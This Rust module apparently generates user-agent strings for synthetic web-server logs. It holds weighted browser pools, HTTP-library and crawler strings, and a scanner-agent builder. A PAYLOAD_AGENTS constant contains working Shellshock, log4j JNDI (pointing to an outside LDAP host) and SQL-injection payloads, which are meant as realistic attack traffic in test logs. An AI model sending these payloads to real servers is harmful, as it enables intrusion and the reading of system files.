//! User agents: real browser strings (Chrome, Edge, Firefox, Safari, Samsung Internet on
//! desktop and mobile, across recent versions), HTTP libraries, the search-engine
//! crawlers' published strings, and scanner strings built from bad-bot tokens.

use crate::dist::{self, Rng};

/// One browser user agent of the pool.
#[derive(Debug, Clone)]
pub(crate) struct Browser {
    pub text: String,
    pub mobile: bool,
    /// Relative share of real traffic.
    pub weight: u32,
}

/// Every browser user agent the people use (about a hundred distinct strings), weighted
/// by a plausible market share spread over the versions.
pub(crate) fn browser_pool() -> Vec<Browser> {
    let mut pool = Vec::new();
    let mut family = |weight: u32, mobile: bool, texts: Vec<String>| {
        let each = (weight * 100 / texts.len().max(1) as u32).max(1);
        pool.extend(texts.into_iter().map(|text| Browser {
            text,
            mobile,
            weight: each,
        }));
    };
    let chrome = 120..=132;
    family(30, false, chrome.clone().map(|v| format!("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.0.0 Safari/537.36")).collect());
    family(10, false, chrome.clone().map(|v| format!("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.0.0 Safari/537.36")).collect());
    family(3, false, chrome.clone().map(|v| format!("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.0.0 Safari/537.36")).collect());
    family(20, true, chrome.clone().map(|v| format!("Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.0.0 Mobile Safari/537.36")).collect());
    family(6, false, chrome.clone().map(|v| format!("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{v}.0.0.0 Safari/537.36 Edg/{v}.0.0.0")).collect());
    let firefox = 121..=133;
    family(6, false, firefox.clone().map(|v| format!("Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:{v}.0) Gecko/20100101 Firefox/{v}.0")).collect());
    family(2, false, firefox.clone().map(|v| format!("Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:{v}.0) Gecko/20100101 Firefox/{v}.0")).collect());
    family(2, false, firefox.map(|v| format!("Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:{v}.0) Gecko/20100101 Firefox/{v}.0")).collect());
    let ios = [
        ("17_1_2", "17.1.2"),
        ("17_3", "17.3"),
        ("17_4_1", "17.4.1"),
        ("17_5", "17.5"),
        ("17_6_1", "17.6.1"),
        ("18_0", "18.0"),
        ("18_1", "18.1"),
        ("18_1_1", "18.1.1"),
        ("18_2", "18.2"),
    ];
    family(15, true, ios.iter().map(|(os, v)| format!("Mozilla/5.0 (iPhone; CPU iPhone OS {os} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/{v} Mobile/15E148 Safari/604.1")).collect());
    family(2, true, ios.iter().map(|(os, v)| format!("Mozilla/5.0 (iPad; CPU OS {os} like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/{v} Mobile/15E148 Safari/604.1")).collect());
    family(5, false, ios.iter().map(|(_, v)| format!("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/{v} Safari/605.1.15")).collect());
    family(3, true, [(23, 115), (24, 117), (25, 121), (26, 122), (27, 125)].iter().map(|(s, c)| format!("Mozilla/5.0 (Linux; Android 14; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/{s}.0 Chrome/{c}.0.0.0 Mobile Safari/537.36")).collect());
    pool
}

/// A browser of the pool, `mobile_share` of the draws from mobile browsers.
pub(crate) fn pick_browser<'a>(
    rng: &mut Rng,
    pool: &'a [Browser],
    mobile_share: f64,
) -> Option<&'a Browser> {
    let mobile = dist::chance(rng, mobile_share);
    let candidates: Vec<(usize, u32)> = pool
        .iter()
        .enumerate()
        .filter(|(_, b)| b.mobile == mobile)
        .map(|(i, b)| (i, b.weight))
        .collect();
    dist::weighted(rng, &candidates).and_then(|i| pool.get(i))
}

/// HTTP libraries and tools scrapers use as they come.
pub(crate) const LIBRARIES: &[&str] = &[
    "python-requests/2.32.3",
    "python-requests/2.31.0",
    "Python-urllib/3.11",
    "python-httpx/0.27.2",
    "aiohttp/3.10.10",
    "Go-http-client/1.1",
    "Go-http-client/2.0",
    "curl/8.5.0",
    "Wget/1.21.4",
    "axios/1.7.7",
    "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
    "Java/17.0.9",
    "okhttp/4.12.0",
    "Apache-HttpClient/4.5.14 (Java/17.0.9)",
    "Scrapy/2.11.2 (+https://scrapy.org)",
    "libwww-perl/6.72",
];

/// Googlebot's published strings (desktop, smartphone).
pub(crate) const GOOGLEBOT: &[&str] = &[
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; Googlebot/2.1; +http://www.google.com/bot.html) Chrome/131.0.6778.69 Safari/537.36",
    "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.6778.69 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
];
/// Bingbot's published strings.
pub(crate) const BINGBOT: &[&str] = &[
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
    "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) Chrome/116.0.1938.76 Safari/537.36",
];
/// DuckDuckBot's published string.
pub(crate) const DUCKDUCKBOT: &[&str] =
    &["DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)"];

/// Payload user agents some scanners send (Shellshock, log4j, SQL injection): they carry
/// quotes and braces, which nginx escapes in the log.
pub(crate) const PAYLOAD_AGENTS: &[&str] = &[
    "() { :; }; echo; /bin/bash -c \"cat /etc/passwd\"",
    "${jndi:ldap://45.83.64.1:1389/Basic/Command/Base64/aWQ=}",
    "Mozilla/5.0' or \"1\"=\"1",
];

/// A scanner user agent around a bad-bot `token`, in the shapes scanners use.
pub(crate) fn scanner_agent(rng: &mut Rng, token: &str) -> String {
    match dist::index(rng, 4) {
        0 => token.to_owned(),
        1 => format!(
            "{token}/{}.{}",
            dist::between(rng, 1, 3),
            dist::between(rng, 0, 9)
        ),
        2 => format!(
            "Mozilla/5.0 (compatible; {token}/{}.{})",
            dist::between(rng, 1, 3),
            dist::between(rng, 0, 9)
        ),
        _ => format!(
            "Mozilla/5.00 ({token}/2.{}.0) (Evasions:None) (Test:{:06})",
            dist::between(rng, 1, 5),
            dist::between(rng, 1, 9999)
        ),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn pool_is_varied_and_distinct() {
        let pool = browser_pool();
        let distinct: std::collections::BTreeSet<&str> =
            pool.iter().map(|b| b.text.as_str()).collect();
        assert_eq!(distinct.len(), pool.len());
        assert!(pool.len() >= 100, "{}", pool.len());
        let mut rng = dist::rng(1, 1);
        let mobile = (0..1000)
            .filter(|_| pick_browser(&mut rng, &pool, 0.7).is_some_and(|b| b.mobile))
            .count();
        assert!((620..780).contains(&mobile), "{mobile}");
        for family in [
            "Chrome/",
            "Firefox/",
            "Version/18",
            "Edg/",
            "SamsungBrowser",
            "iPhone",
            "Android",
        ] {
            assert!(pool.iter().any(|b| b.text.contains(family)), "{family}");
        }
    }
}
